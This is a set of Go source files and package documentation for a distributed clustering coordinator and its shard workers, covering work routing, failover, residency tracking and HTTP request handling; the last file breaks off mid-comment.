// permShard applies the seeded schedule permutation to a pull-queue
// shard choice (identity without one).
func (c *Coordinator) permShard(s int) int {
	if c.shardPerm == nil {
		return s
	}
	return c.shardPerm[s%len(c.shardPerm)]
}

// StreamWorkers reports the fleet size (pipeline.StreamClusterer).
func (c *Coordinator) StreamWorkers() int { return c.transport.Shards() }

// WireBytes reports the transport's cumulative wire traffic (total and
// edge-path bytes) when the transport counts it, zeros otherwise. The
// pipeline surfaces the numbers as Stats.WireBytes / Stats.EdgeWireBytes.
func (c *Coordinator) WireBytes() (total, edges int64) {
	if wb, ok := c.transport.(interface{ WireBytes() (int64, int64) }); ok {
		return wb.WireBytes()
	}
	return 0, 0
}

// affinityOn reports whether the locality layer is active.
func (c *Coordinator) affinityOn() bool { return c.resident != nil }

// PlaceRows implements pipeline.RowPlacer: for each key, the shard
// believed to hold that sequence (lowest set residency bit), or -1. The
// pipeline uses the placement to compose shard-pure edge jobs — per-group
// triangles plus cross-group rectangles — so that a routed job finds
// (nearly) all of its bytes already resident.
func (c *Coordinator) PlaceRows(keys []pipeline.SeqKey) []int {
	if !c.affinityOn() {
		return nil
	}
	out := make([]int, len(keys))
	c.affMu.Lock()
	for i, k := range keys {
		out[i] = -1
		if m := c.resident[k]; m != 0 {
			out[i] = bits.TrailingZeros64(m)
		}
	}
	c.affMu.Unlock()
	return out
}

// recordResident marks every key as resident on the shard after a round
// trip that shipped (or confirmed) the sequences there: a clustered
// partition, a v2 edge job, or a v3 job's fills.
func (c *Coordinator) recordResident(shard int, keys []pipeline.SeqKey) {
	if !c.affinityOn() || shard >= 64 || len(keys) == 0 {
		return
	}
	mask := uint64(1) << shard
	c.affMu.Lock()
	for _, k := range keys {
		c.resident[k] |= mask
	}
	c.affMu.Unlock()
}

// invalidateShard forgets everything believed resident on a shard. Called
// after a dispatch failure there: the worker may have died, and a
// restarted worker starts with an empty resident set.
func (c *Coordinator) invalidateShard(shard int) {
	if !c.affinityOn() || shard >= 64 {
		return
	}
	keep := ^(uint64(1) << shard)
	c.affMu.Lock()
	for k, m := range c.resident {
		if nm := m & keep; nm != m {
			if nm == 0 {
				delete(c.resident, k)
			} else {
				c.resident[k] = nm
			}
		}
	}
	c.affMu.Unlock()
}

// routeUnit picks the shard for a work unit: for an edge job with content
// keys, the shard holding the most resident bytes (ties to the lowest
// shard); otherwise the caller's fallback (the pull queue's choice).
// Routing runs before execution so the schedule model attributes the
// unit's cost to the shard that actually served it.
func (c *Coordinator) routeUnit(unit pipeline.WorkUnit, fallback int) int {
	fallback = c.permShard(fallback)
	if !c.affinityOn() || unit.Edges == nil || len(unit.Edges.Keys) == 0 {
		return fallback
	}
	shards := c.transport.Shards()
	if shards > 64 {
		shards = 64
	}
	var held [64]int64
	c.affMu.Lock()
	for _, k := range unit.Edges.Keys {
		m := c.resident[k]
		for m != 0 {
			s := bits.TrailingZeros64(m)
			m &^= uint64(1) << s
			if s < shards {
				held[s] += int64(k.WireBytes())
			}
		}
	}
	c.affMu.Unlock()
	best, bestBytes := fallback, int64(0)
	for s := 0; s < shards; s++ {
		if held[s] > bestBytes {
			best, bestBytes = s, held[s]
		}
	}
	return best
}

// ScheduleTotals returns the accumulated sequential-dispatch schedule
// model and resets the accumulator.
func (c *Coordinator) ScheduleTotals() ScheduleStats {
	c.schedMu.Lock()
	defer c.schedMu.Unlock()
	out := c.schedTotal
	out.Busy = append([]time.Duration(nil), c.schedTotal.Busy...)
	c.schedTotal = ScheduleStats{}
	return out
}

// ClusterPartitions dispatches every partition in one batch and collects
// the results, ordered by partition index (protocol v1 — pre-reduce and
// the reduce sweeps stay with the caller). The first unrecoverable
// failure cancels the remaining work.
func (c *Coordinator) ClusterPartitions(parts []pipeline.ShardPartition, cfg pipeline.Config) ([]pipeline.ShardClusters, error) {
	shards := c.transport.Shards()
	if shards < 1 {
		return nil, fmt.Errorf("shardcoord: transport has no shards")
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	results := make([]pipeline.ShardClusters, len(parts))
	// The root cause is the FIRST recorded error: once it cancels ctx,
	// the other shards' in-flight requests fail with context.Canceled,
	// which must not mask it.
	var errOnce sync.Once
	var firstErr error
	one := func(shard, pi int) bool {
		req := &PartitionRequest{Eps: cfg.Eps, MinPts: cfg.MinPts, Partition: parts[pi], Profile: cfg.ProfileID()}
		resp, _, err := c.dispatchPartition(ctx, shard, req)
		if err != nil {
			errOnce.Do(func() {
				firstErr = fmt.Errorf("partition %d on shard %d: %w", pi, shard, err)
				cancel()
			})
			return false
		}
		results[pi] = resp.ShardClusters
		return true
	}
	if c.sequential {
		// Serial simulation of the shared-queue schedule: each partition
		// goes to the shard that would be idle first. In batch mode every
		// partition is available up front, so the modeled makespan is the
		// busiest shard's total.
		busy := make([]time.Duration, shards)
		for pi := range parts {
			if ctx.Err() != nil {
				break
			}
			shard := 0
			for s := 1; s < shards; s++ {
				if busy[s] < busy[shard] {
					shard = s
				}
			}
			start := time.Now()
			if !one(c.permShard(shard), pi) {
				break
			}
			busy[shard] += time.Since(start)
		}
		c.schedMu.Lock()
		if len(c.schedTotal.Busy) != shards {
			c.schedTotal.Busy = make([]time.Duration, shards)
		}
		var makespan time.Duration
		for s := range busy {
			c.schedTotal.Busy[s] += busy[s]
			if busy[s] > makespan {
				makespan = busy[s]
			}
		}
		c.schedTotal.Makespan += makespan
		c.schedTotal.PartitionUnits += len(parts)
		c.schedTotal.Runs++
		c.schedMu.Unlock()
	} else {
		// Shared queue: each shard pulls the next partition the moment it
		// finishes its current one, so skewed partition costs balance.
		var next atomic.Int64
		var wg sync.WaitGroup
		for s := 0; s < shards; s++ {
			wg.Add(1)
			go func(shard int) {
				defer wg.Done()
				for {
					pi := int(next.Add(1)) - 1
					if pi >= len(parts) || ctx.Err() != nil {
						return
					}
					if !one(c.permShard(shard), pi) {
						return
					}
				}
			}(s)
		}
		wg.Wait()
	}
	if firstErr != nil {
		return nil, fmt.Errorf("shardcoord: %w", firstErr)
	}
	return results, nil
}

// ClusterStream consumes work units as the pipeline emits them and
// returns one result per unit (pipeline.StreamClusterer). Partition units
// are clustered and pre-reduced on the shard (protocol v2; workers that
// answer without a summary get pre-reduced coordinator-side), edge units
// run the reduce's distance sweeps. After a terminal failure every
// subsequent unit is drained with the root error attached, so the
// pipeline never blocks.
func (c *Coordinator) ClusterStream(work <-chan pipeline.WorkUnit, cfg pipeline.Config) <-chan pipeline.WorkResult {
	out := make(chan pipeline.WorkResult)
	shards := c.transport.Shards()
	if shards < 1 {
		go func() {
			err := fmt.Errorf("shardcoord: transport has no shards")
			for unit := range work {
				out <- pipeline.WorkResult{Seq: unit.Seq, Err: err}
			}
			close(out)
		}()
		return out
	}
	if c.sequential {
		go c.streamSequential(work, cfg, out, shards)
	} else {
		go c.streamConcurrent(work, cfg, out, shards)
	}
	return out
}

// streamConcurrent runs the shared pull queue: each shard goroutine takes
// the next unit the moment it finishes its current one.
func (c *Coordinator) streamConcurrent(work <-chan pipeline.WorkUnit, cfg pipeline.Config, out chan<- pipeline.WorkResult, shards int) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var errOnce sync.Once
	var firstErr atomic.Value // error
	var wg sync.WaitGroup
	for s := 0; s < shards; s++ {
		wg.Add(1)
		go func(shard int) {
			defer wg.Done()
			for unit := range work {
				// Affinity may override the pull queue's shard. The goroutine
				// then acts as a dispatcher for the routed shard — transports
				// are concurrency-safe, and shard-pure job composition keeps
				// the preferences spread, so the pull model still balances.
				res := c.executeUnit(ctx, c.routeUnit(unit, shard), unit, cfg)
				if res.Err != nil {
					errOnce.Do(func() {
						firstErr.Store(res.Err)
						cancel()
					})
					// Attach the root cause, not a cascading cancellation.
					res.Err = firstErr.Load().(error)
				}
				out <- res
			}
		}(s)
	}
	wg.Wait()
	close(out)
}

// streamSequential executes units inline, one at a time, while modeling
// the fleet schedule: each unit is assigned to the simulated
// earliest-free shard, starting no earlier than the host emitted it
// (unit.Emitted), with a barrier before each reduce wave (unit.Wave).
func (c *Coordinator) streamSequential(work <-chan pipeline.WorkUnit, cfg pipeline.Config, out chan<- pipeline.WorkResult, shards int) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	stats := ScheduleStats{Busy: make([]time.Duration, shards)}
	free := make([]time.Duration, shards) // simulated per-shard finish times
	wave := 0
	var waveBase time.Duration
	var firstErr error
	for unit := range work {
		if firstErr != nil {
			out <- pipeline.WorkResult{Seq: unit.Seq, Err: firstErr}
			continue
		}
		if unit.Wave != wave {
			// Wave barrier: a reduce sweep starts only after everything
			// before it completed.
			wave = unit.Wave
			waveBase = 0
			for _, f := range free {
				if f > waveBase {
					waveBase = f
				}
			}
		}
		arrival := time.Duration(unit.Emitted)
		if unit.Wave > 0 {
			arrival = waveBase
		}
		shard := 0
		for s := 1; s < shards; s++ {
			if free[s] < free[shard] {
				shard = s
			}
		}
		// Affinity overrides earliest-free for keyed edge jobs, and does so
		// before execution so busy time and makespan charge the routed shard.
		shard = c.routeUnit(unit, shard)
		start := time.Now()
		res := c.executeUnit(ctx, shard, unit, cfg)
		cost := time.Since(start)
		if res.Err != nil {
			firstErr = res.Err
			out <- res
			continue
		}
		simStart := arrival
		if free[shard] > simStart {
			simStart = free[shard]
		}
		free[shard] = simStart + cost
		stats.Busy[shard] += cost
		if unit.Partition != nil {
			stats.PartitionUnits++
		} else {
			stats.EdgeUnits++
		}
		out <- res
	}
	for _, f := range free {
		if f > stats.Makespan {
			stats.Makespan = f
		}
	}
	stats.Runs = 1
	c.schedMu.Lock()
	if len(c.schedTotal.Busy) != shards {
		c.schedTotal.Busy = make([]time.Duration, shards)
	}
	for s := range free {
		c.schedTotal.Busy[s] += stats.Busy[s]
	}
	c.schedTotal.Makespan += stats.Makespan
	c.schedTotal.PartitionUnits += stats.PartitionUnits
	c.schedTotal.EdgeUnits += stats.EdgeUnits
	c.schedTotal.Runs++
	c.schedMu.Unlock()
	close(out)
}

// executeUnit runs one work unit on (nominally) the given shard, with
// failover to subsequent shards.
func (c *Coordinator) executeUnit(ctx context.Context, shard int, unit pipeline.WorkUnit, cfg pipeline.Config) pipeline.WorkResult {
	switch {
	case unit.Partition != nil:
		req := &PartitionRequest{
			Eps:       cfg.Eps,
			MinPts:    cfg.MinPts,
			Partition: *unit.Partition,
			PreReduce: !cfg.DisableShardPreReduce,
			Profile:   cfg.ProfileID(),
		}
		resp, served, err := c.dispatchPartition(ctx, shard, req)
		if err != nil {
			return pipeline.WorkResult{Seq: unit.Seq, Err: fmt.Errorf("partition unit %d on shard %d: %w", unit.Seq, shard, err)}
		}
		c.recordResident(served, unit.Partition.Keys)
		reduced := resp.Reduced
		if reduced == nil {
			// v1 worker (or pre-reduce disabled): compute the summary here;
			// it is a pure function of the partition, so the output is
			// unchanged. The response is untrusted wire data — validate its
			// indices before the pre-reduce kernels index the partition.
			if err := pipeline.CheckShardClusters(resp.ShardClusters, len(unit.Partition.Seqs)); err != nil {
				return pipeline.WorkResult{Seq: unit.Seq, Err: fmt.Errorf("partition unit %d on shard %d: %w", unit.Seq, shard, err)}
			}
			r := pipeline.PreReducePartition(*unit.Partition, resp.ShardClusters, cfg)
			reduced = &r
		}
		return pipeline.WorkResult{Seq: unit.Seq, Reduced: reduced}
	case unit.Edges != nil:
		el, err := c.dispatchEdgeJob(ctx, shard, unit.Edges, cfg.ProfileID())
		if errors.Is(err, ErrUnsupported) {
			// Old fleet: run the sweep coordinator-side rather than failing.
			lel, lerr := pipeline.SweepEdges(*unit.Edges, cfg.Workers, cfg.Cache)
			if lerr != nil {
				return pipeline.WorkResult{Seq: unit.Seq, Err: lerr}
			}
			return pipeline.WorkResult{Seq: unit.Seq, Edges: &lel}
		}
		if err != nil {
			return pipeline.WorkResult{Seq: unit.Seq, Err: fmt.Errorf("edge unit %d on shard %d: %w", unit.Seq, shard, err)}
		}
		return pipeline.WorkResult{Seq: unit.Seq, Edges: el}
	default:
		return pipeline.WorkResult{Seq: unit.Seq, Err: fmt.Errorf("shardcoord: empty work unit %d", unit.Seq)}
	}
}

// dispatchPartition sends one partition request, failing over to
// subsequent shards up to the retry budget. A dead worker therefore slows
// the batch rather than killing it. Returns the shard that actually
// served the request so residency is recorded against it.
func (c *Coordinator) dispatchPartition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, int, error) {
	shards := c.transport.Shards()
	var lastErr error
	for attempt := 0; attempt <= c.retries; attempt++ {
		if ctx.Err() != nil {
			return nil, 0, ctx.Err()
		}
		s := (shard + attempt) % shards
		resp, err := c.transport.Partition(ctx, s, req)
		if err == nil {
			return resp, s, nil
		}
		lastErr = err
		c.invalidateShard(s)
	}
	return nil, 0, lastErr
}

// dispatchEdgeJob sends one edge job with the v2 failover policy, trying
// the digest-first v3 wire first on capable shards. A v3 capability miss
// falls back to v2 on the same shard; a v2 ErrUnsupported is returned
// as-is (capability miss — the coordinator sweeps locally, not failover).
func (c *Coordinator) dispatchEdgeJob(ctx context.Context, shard int, job *pipeline.EdgeJob, profile string) (*pipeline.EdgeList, error) {
	shards := c.transport.Shards()
	var lastErr error
	for attempt := 0; attempt <= c.retries; attempt++ {
		if ctx.Err() != nil {
			return nil, ctx.Err()
		}
		s := (shard + attempt) % shards
		el, err, handled := c.tryEdgesV3(ctx, s, job, profile)
		if handled {
			if err == nil {
				c.recordResident(s, job.Keys)
				return el, nil
			}
			lastErr = err
			c.invalidateShard(s)
			continue
		}
		resp, err := c.transport.Edges(ctx, s, &EdgeRequest{Job: *job, Profile: profile})
		if err == nil {
			// v2 shipped the sequences inline; a resident-set worker
			// installed them, so record the shard for future routing.
			c.recordResident(s, job.Keys)
			return &resp.EdgeList, nil
		}
		lastErr = err
		if errors.Is(err, ErrUnsupported) {
			return nil, err
		}
		c.invalidateShard(s)
	}
	return nil, lastErr
}

// tryEdgesV3 attempts one digest-first round trip. handled=false means v3
// was not applicable (no capability, affinity off, or the job carries no
// keys) and the caller should use the v2 wire on the same shard. The
// protocol is two rounds at most: round 0 fills only the sequences the
// residency map says the shard lacks; if the worker still reports misses
// (it evicted, or died and restarted since the map was recorded), round 1
// fills every position — a worker resolves fills before its resident set,
// so a second-round miss is impossible on a correct worker and is treated
// as a shard failure.
func (c *Coordinator) tryEdgesV3(ctx context.Context, shard int, job *pipeline.EdgeJob, profile string) (*pipeline.EdgeList, error, bool) {
	if !c.affinityOn() || shard >= 64 || len(job.Keys) != len(job.Seqs) || len(job.Keys) == 0 {
		return nil, nil, false
	}
	if c.v3cap[shard].Load() == capNo {
		return nil, nil, false
	}
	req := &EdgeRequestV3{Eps: job.Eps, Keys: job.Keys, Rows: job.Rows, Cols: job.Cols, Profile: profile}
	mask := uint64(1) << shard
	c.affMu.Lock()
	for i, k := range job.Keys {
		if c.resident[k]&mask == 0 {
			req.FillAt = append(req.FillAt, i)
			req.Fill = append(req.Fill, job.Seqs[i])
		}
	}
	c.affMu.Unlock()
	for round := 0; ; round++ {
		resp, err := c.v3.EdgesV3(ctx, shard, req)
		if errors.Is(err, ErrUnsupported) {
			c.v3cap[shard].Store(capNo)
			return nil, nil, false
		}
		if err != nil {
			return nil, err, true
		}
		c.v3cap[shard].Store(capYes)
		if len(resp.Missing) == 0 {
			return &resp.EdgeList, nil, true
		}
		if round >= 1 {
			return nil, fmt.Errorf("shardcoord: shard %d still missing %d sequences after a full refill", shard, len(resp.Missing)), true
		}
		// The residency map was stale — drop everything recorded for this
		// shard and refill the whole job.
		c.invalidateShard(shard)
		req.FillAt = req.FillAt[:0]
		req.Fill = req.Fill[:0]
		for i := range job.Keys {
			req.FillAt = append(req.FillAt, i)
			req.Fill = append(req.Fill, job.Seqs[i])
		}
	}
}
