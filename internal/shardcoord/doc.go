// Package shardcoord distributes the pipeline's clustering and reduce
// work across processes — the reproduction of the paper's 50-machine
// layout (§IV: "randomly partition the samples across a cluster of
// machines"), extended with streaming dispatch, a distributed reduce
// (protocol v2), and locality-aware edge routing over a digest-first
// wire (protocol v3).
//
// The division of labor follows the paper's Figure 7: a Coordinator owns
// the serial stages and implements both pipeline.Clusterer (batch,
// protocol v1) and pipeline.StreamClusterer: work units are consumed
// from a shared streaming pull queue as the pipeline emits them —
// clustering partitions while the host is still deduplicating, then the
// reduce step's distance sweeps as edge jobs. A Worker executes
// pipeline.ClusterPartition (+ pipeline.PreReducePartition when the
// request asks for pre-reduce) behind POST /partition and
// pipeline.SweepEdges behind POST /edges (cmd/kizzleshard is the
// standalone binary); only two-byte-per-token abstract symbol sequences
// travel on the wire, never raw documents.
//
// Protocol v3 stops re-shipping even those. Sequences are content
// addressed (pipeline.SeqKey — 20 bytes); a worker with a resident set
// (WithWorkerResidentBudget, kizzleshard -residentmb) remembers every
// sequence it has served by key, and the coordinator remembers which
// shards hold which keys. Edge jobs are then composed placement-aware
// (rows grouped by owning shard — identical pair coverage to blind
// chunking), routed to the shard holding the most of their bytes, and
// sent over POST /edges3 as keys plus only the fills the residency map
// says that shard lacks. Stale residency is safe: the worker answers
// Missing positions (no sweep runs), and one full refill round settles
// it; a dispatch failure invalidates that shard's residency. A worker
// without a resident set 404s /edges3 and the coordinator drops to the
// v2 sequence wire for that shard (WithoutAffinity forces v2
// everywhere). The affinity layer trades wire bytes for bookkeeping —
// Coordinator.WireBytes meters it — and cannot change output.
//
// Transports:
//
//   - NewHTTPTransport dispatches to real worker processes by base URL; a
//     worker predating protocol v2 answers /edges with 404, which comes
//     back as ErrUnsupported and moves that work onto the coordinator (a
//     mixed fleet degrades gracefully during rolling upgrades).
//   - NewLoopback runs the identical HTTP handler/JSON round trip against
//     in-process workers with no sockets, so `go test` (and the
//     BenchmarkPipelineSharded scaling benchmark) exercises the full
//     distributed path deterministically.
//
// Every work unit's result is a pure function of the unit, so shard
// count, scheduling, mid-stream failover (WithRetries), and result
// arrival order are invisible in pipeline output — pinned by
// TestShardedMatchesSingleProcess, TestShardedBatchMatchesStream,
// TestHierarchicalReduceOrderInvariant, and TestStreamFailoverMidStream;
// the locality layer adds TestShardedAffinityMatchesSingleProcess
// (affinity ≡ affinity-off ≡ single process at 1/2/4/8 streamed shards,
// plus the warm-day wire-savings assertion) and
// TestShardedAffinityFailoverMidEdgeSweep (worker death at the edge
// wave).
// Workers may carry a contentcache.Cache (optionally disk-backed, see
// WithWorkerCache) to reuse pair within-eps verdicts across requests and
// restarts; caching never changes results. WithSequentialDispatch turns
// the coordinator into a profiling instrument that models the fleet
// schedule (ScheduleTotals) while dispatching units one at a time.
package shardcoord
