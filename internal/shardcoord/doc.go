// Package shardcoord distributes the pipeline's partition-clustering
// stage across processes — the reproduction of the paper's 50-machine
// layout (§IV: "randomly partition the samples across a cluster of
// machines").
//
// The division of labor follows the paper's Figure 7: a Coordinator owns
// the cheap, serial stages (tokenize → dedupe before clustering; reduce →
// label → sign after) and implements pipeline.Clusterer by dispatching
// each clustering partition — the O(n²)-ish DBSCAN work unit — to a shard
// worker. A Worker executes pipeline.ClusterPartition behind a POST
// /partition HTTP endpoint (cmd/kizzleshard is the standalone binary);
// only two-byte-per-token abstract symbol sequences travel on the wire,
// never raw documents.
//
// Transports:
//
//   - NewHTTPTransport dispatches to real worker processes by base URL.
//   - NewLoopback runs the identical HTTP handler/JSON round trip against
//     in-process workers with no sockets, so `go test` (and the
//     BenchmarkPipelineSharded scaling benchmark) exercises the full
//     distributed path deterministically.
//
// Partition clustering is deterministic in (sequences, weights, eps,
// minPts), so a sharded run produces bit-identical clusters and signatures
// to a single-process run — pinned by TestShardedMatchesSingleProcess for
// 1, 2, and 4 shards. Workers may carry a contentcache.Cache (optionally
// disk-backed, see WithWorkerCache) to reuse pair within-eps verdicts
// across requests and restarts; caching never changes results.
package shardcoord
