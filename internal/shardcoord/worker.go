package shardcoord

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"runtime"

	"kizzle/internal/contentcache"
	"kizzle/internal/jstoken"
	"kizzle/internal/pipeline"
)

// maxPartitionRequestBytes caps one /partition or /edges request body. A
// work unit carries abstract symbol sequences only (two bytes per symbol
// before framing), so 64 MiB covers units far beyond the default sizes.
const maxPartitionRequestBytes = 64 << 20

// PartitionRequest is the wire form of one clustering work unit: the
// partition plus the two DBSCAN parameters the coordinator resolved. The
// worker contributes its own parallelism and cache. PreReduce (protocol
// v2) asks the worker to also pre-reduce the partition — merge clusters
// whose representatives fall within eps and fold local noise — and answer
// with the compacted summary; v1 workers ignore the field and answer with
// raw clusters, which the coordinator then pre-reduces itself.
type PartitionRequest struct {
	Eps       float64                 `json:"eps"`
	MinPts    int                     `json:"minPts"`
	Partition pipeline.ShardPartition `json:"partition"`
	PreReduce bool                    `json:"preReduce,omitempty"`
}

// PartitionResponse is the wire form of a partition's clustering result,
// in partition-local indices. Exactly one part is populated: Reduced iff
// the request asked for pre-reduce (the raw clusters are omitted — the
// coordinator only reads the summary), raw ShardClusters otherwise.
type PartitionResponse struct {
	pipeline.ShardClusters
	Reduced *pipeline.ReducedPartition `json:"reduced,omitempty"`
}

// EdgeRequest is the wire form of one reduce distance sweep (protocol
// v2): which pairs of the shipped sequences are within eps.
type EdgeRequest struct {
	Job pipeline.EdgeJob `json:"job"`
}

// EdgeResponse carries the within-eps pairs back.
type EdgeResponse struct {
	pipeline.EdgeList
}

// Worker executes clustering work units. It is safe for concurrent use;
// each request computes independently (the shared pair-verdict cache is
// internally synchronized).
type Worker struct {
	workers int
	cache   *contentcache.Cache
}

// WorkerOption configures a Worker.
type WorkerOption func(*Worker)

// WithWorkerParallelism sets how many goroutines one work unit's distance
// sweep fans out across (default GOMAXPROCS). Production shards on
// dedicated machines keep the default; the loopback benchmark sets 1 so a
// worker models one machine core.
func WithWorkerParallelism(n int) WorkerOption {
	return func(w *Worker) { w.workers = n }
}

// WithWorkerCache gives the worker a content-addressed cache for pair
// within-eps verdicts, carried across requests — day N+1's recurring
// shapes skip the banded DP entirely, for partition clustering and reduce
// sweeps alike. Pair it with contentcache.Load / Save
// (pipeline.CacheCodecs) to keep the warm verdicts across restarts.
func WithWorkerCache(c *contentcache.Cache) WorkerOption {
	return func(w *Worker) { w.cache = c }
}

// NewWorker builds a shard worker.
func NewWorker(opts ...WorkerOption) *Worker {
	w := &Worker{workers: runtime.GOMAXPROCS(0)}
	for _, opt := range opts {
		opt(w)
	}
	return w
}

// Cache returns the worker's verdict cache (nil when not configured), so
// the owning process can persist it on shutdown.
func (w *Worker) Cache() *contentcache.Cache { return w.cache }

// validateSeqs rejects wire sequences carrying symbols outside the
// abstraction alphabet — untrusted data that would index past the
// clustering kernel's histogram arenas.
func validateSeqs(seqs [][]jstoken.Symbol) error {
	space := jstoken.Symbol(jstoken.SymbolSpace())
	for i, seq := range seqs {
		for _, sym := range seq {
			if sym >= space {
				return fmt.Errorf("shardcoord: sequence %d carries symbol %d outside the alphabet (%d)", i, sym, space)
			}
		}
	}
	return nil
}

// Cluster executes one partition request locally — the computation behind
// POST /partition.
func (w *Worker) Cluster(req *PartitionRequest) (*PartitionResponse, error) {
	if len(req.Partition.Seqs) != len(req.Partition.Weights) {
		return nil, fmt.Errorf("shardcoord: %d sequences with %d weights",
			len(req.Partition.Seqs), len(req.Partition.Weights))
	}
	if err := validateSeqs(req.Partition.Seqs); err != nil {
		return nil, err
	}
	cfg := pipeline.Config{
		Eps:     req.Eps,
		MinPts:  req.MinPts,
		Workers: w.workers,
		Cache:   w.cache,
	}
	clusters := pipeline.ClusterPartition(req.Partition, cfg)
	if req.PreReduce {
		// The coordinator consumes only the summary when it asked for
		// pre-reduce; shipping the raw clusters alongside would double the
		// response payload for no reader.
		reduced := pipeline.PreReducePartition(req.Partition, clusters, cfg)
		return &PartitionResponse{Reduced: &reduced}, nil
	}
	return &PartitionResponse{ShardClusters: clusters}, nil
}

// Edges executes one distance-sweep request locally — the computation
// behind POST /edges.
func (w *Worker) Edges(req *EdgeRequest) (*EdgeResponse, error) {
	if err := validateSeqs(req.Job.Seqs); err != nil {
		return nil, err
	}
	list, err := pipeline.SweepEdges(req.Job, w.workers, w.cache)
	if err != nil {
		return nil, fmt.Errorf("shardcoord: %w", err)
	}
	return &EdgeResponse{EdgeList: list}, nil
}

// Handler serves the worker over HTTP:
//
//	POST /partition — cluster one PartitionRequest, respond PartitionResponse
//	POST /edges     — run one EdgeRequest distance sweep, respond EdgeResponse
//	GET  /healthz   — liveness plus cache occupancy
func (w *Worker) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/partition", w.servePartition)
	mux.HandleFunc("/edges", w.serveEdges)
	mux.HandleFunc("/healthz", func(rw http.ResponseWriter, r *http.Request) {
		st := w.cache.Stats()
		fmt.Fprintf(rw, "ok cache-entries=%d cache-bytes=%d\n", st.Entries, st.Bytes)
	})
	return mux
}

// decodeBody decodes a capped JSON request body, translating oversized
// bodies into 413s.
func decodeBody(rw http.ResponseWriter, r *http.Request, v any) bool {
	if r.Method != http.MethodPost {
		http.Error(rw, "POST required", http.StatusMethodNotAllowed)
		return false
	}
	r.Body = http.MaxBytesReader(rw, r.Body, maxPartitionRequestBytes)
	if err := json.NewDecoder(r.Body).Decode(v); err != nil {
		status := http.StatusBadRequest
		var tooLarge *http.MaxBytesError
		if errors.As(err, &tooLarge) {
			status = http.StatusRequestEntityTooLarge
		}
		http.Error(rw, "bad request: "+err.Error(), status)
		return false
	}
	return true
}

func (w *Worker) servePartition(rw http.ResponseWriter, r *http.Request) {
	var req PartitionRequest
	if !decodeBody(rw, r, &req) {
		return
	}
	resp, err := w.Cluster(&req)
	if err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	writeJSON(rw, resp)
}

func (w *Worker) serveEdges(rw http.ResponseWriter, r *http.Request) {
	var req EdgeRequest
	if !decodeBody(rw, r, &req) {
		return
	}
	resp, err := w.Edges(&req)
	if err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	writeJSON(rw, resp)
}

func writeJSON(rw http.ResponseWriter, v any) {
	rw.Header().Set("Content-Type", "application/json")
	// An encode failure means headers already went out; the coordinator
	// sees a truncated body and retries on another shard.
	_ = json.NewEncoder(rw).Encode(v)
}
