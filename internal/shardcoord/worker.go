package shardcoord

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"runtime"
	"sync/atomic"
	"time"

	"kizzle/internal/contentcache"
	"kizzle/internal/ingest"
	"kizzle/internal/jstoken"
	"kizzle/internal/pipeline"
	"kizzle/internal/servemetrics"
)

// maxPartitionRequestBytes caps one /partition or /edges request body. A
// work unit carries abstract symbol sequences only (two bytes per symbol
// before framing), so 64 MiB covers units far beyond the default sizes.
const maxPartitionRequestBytes = 64 << 20

// PartitionRequest is the wire form of one clustering work unit: the
// partition plus the two DBSCAN parameters the coordinator resolved. The
// worker contributes its own parallelism and cache. PreReduce (protocol
// v2) asks the worker to also pre-reduce the partition — merge clusters
// whose representatives fall within eps and fold local noise — and answer
// with the compacted summary; v1 workers ignore the field and answer with
// raw clusters, which the coordinator then pre-reduces itself.
type PartitionRequest struct {
	Eps       float64                 `json:"eps"`
	MinPts    int                     `json:"minPts"`
	Partition pipeline.ShardPartition `json:"partition"`
	PreReduce bool                    `json:"preReduce,omitempty"`
	// Profile names the ingest profile whose alphabet the sequences were
	// lexed under; empty means the default JS profile (pre-profile
	// coordinators never send the field).
	Profile string `json:"profile,omitempty"`
}

// PartitionResponse is the wire form of a partition's clustering result,
// in partition-local indices. Exactly one part is populated: Reduced iff
// the request asked for pre-reduce (the raw clusters are omitted — the
// coordinator only reads the summary), raw ShardClusters otherwise.
type PartitionResponse struct {
	pipeline.ShardClusters
	Reduced *pipeline.ReducedPartition `json:"reduced,omitempty"`
}

// EdgeRequest is the wire form of one reduce distance sweep (protocol
// v2): which pairs of the shipped sequences are within eps.
type EdgeRequest struct {
	Job pipeline.EdgeJob `json:"job"`
	// Profile names the ingest profile of the job's alphabet ("" = js).
	Profile string `json:"profile,omitempty"`
}

// EdgeResponse carries the within-eps pairs back.
type EdgeResponse struct {
	pipeline.EdgeList
}

// EdgeRequestV3 is the digest-first form of a distance sweep (protocol
// v3): the job references its sequences by content address and ships raw
// packed bytes only for the positions in FillAt (Fill aligned with it).
// Every other key must already sit in the worker's resident set; keys the
// worker cannot resolve come back in EdgeResponseV3.Missing and the
// coordinator refills them — the inline-miss dance that makes a restarted
// (resident-set-empty) worker a slow request, never a wrong answer.
type EdgeRequestV3 struct {
	Eps    float64             `json:"eps"`
	Keys   []pipeline.SeqKey   `json:"keys"`
	FillAt []int               `json:"fillAt,omitempty"`
	Fill   pipeline.PackedSeqs `json:"fill,omitempty"`
	Rows   []int               `json:"rows"`
	Cols   []int               `json:"cols,omitempty"`
	// Profile names the ingest profile of the fills' alphabet ("" = js).
	Profile string `json:"profile,omitempty"`
}

// EdgeResponseV3 answers a digest-first sweep: either the within-eps
// pairs, or the key positions the worker does not hold (in which case no
// sweep ran and the coordinator must refill).
type EdgeResponseV3 struct {
	pipeline.EdgeList
	Missing []int `json:"missing,omitempty"`
}

// Worker executes clustering work units. It is safe for concurrent use;
// each request computes independently (the shared pair-verdict cache and
// the resident set are internally synchronized).
type Worker struct {
	workers  int
	cache    *contentcache.Cache
	resident *residentSet

	partitions atomic.Int64
	edges      atomic.Int64
	edgesV3    atomic.Int64
	workLat    servemetrics.Hist
}

// WorkerOption configures a Worker.
type WorkerOption func(*Worker)

// WithWorkerParallelism sets how many goroutines one work unit's distance
// sweep fans out across (default GOMAXPROCS). Production shards on
// dedicated machines keep the default; the loopback benchmark sets 1 so a
// worker models one machine core.
func WithWorkerParallelism(n int) WorkerOption {
	return func(w *Worker) { w.workers = n }
}

// WithWorkerCache gives the worker a content-addressed cache for pair
// within-eps verdicts, carried across requests — day N+1's recurring
